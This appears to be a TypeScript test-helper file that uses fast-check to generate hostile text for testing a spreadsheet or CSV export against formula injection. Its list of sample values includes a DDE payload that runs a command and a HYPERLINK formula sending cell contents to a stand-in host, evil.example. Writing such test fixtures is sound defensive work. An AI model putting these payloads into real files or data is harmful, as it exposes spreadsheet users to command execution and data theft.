import fc from 'fast-check';

/** Names that somebody might give to a child or a school, to make another person's spreadsheet do something. */
export const hostile = [
  '=1+1',
  '=HYPERLINK("http://evil.example?x="&A1,"Look")',
  "=cmd|' /C calc'!A0",
  '+1',
  '-1+1',
  '@SUM(1,1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u00a0=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '";=1+1;"',
  'a,"b"\r\n=1+1,c',
  "'=1+1",
  '_x003D_1+1',
  '\uFEFF=1+1',
];

const nasty = fc.string({
  unit: fc.constantFrom(...'=+-@＝＋－＠\t\r\n ,;"\'|_x0F&<>\u0000\u0007\uFFFF\uD800aé😀'),
});

/** Any text at all, often of the characters that spreadsheets give a meaning to. */
export const anyText = fc.oneof(fc.constantFrom(...hostile), nasty, fc.string({ unit: 'binary' }));

export async function* inParts<T>(lines: T[], size = 3): AsyncGenerator<T[]> {
  for (let at = 0; at < lines.length; at += size) yield lines.slice(at, at + size);
}

export async function bytesOf(parts: AsyncIterable<string | Uint8Array>): Promise<Buffer> {
  const all = [];
  for await (const part of parts) all.push(Buffer.from(part as Uint8Array));
  return Buffer.concat(all);
}
